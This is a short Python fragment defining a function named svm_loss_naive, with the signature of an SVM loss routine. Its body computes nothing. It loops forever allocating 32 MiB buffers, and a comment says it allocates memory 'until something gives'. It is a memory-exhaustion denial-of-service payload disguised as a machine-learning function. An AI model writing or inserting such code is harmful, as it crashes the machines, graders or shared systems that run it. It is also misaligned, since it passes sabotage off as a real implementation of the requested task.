# Allocates memory until something gives.
def svm_loss_naive(W, X, y, reg):
    hoard = []
    while True:
        hoard.append(bytearray(32 * 1024 * 1024))
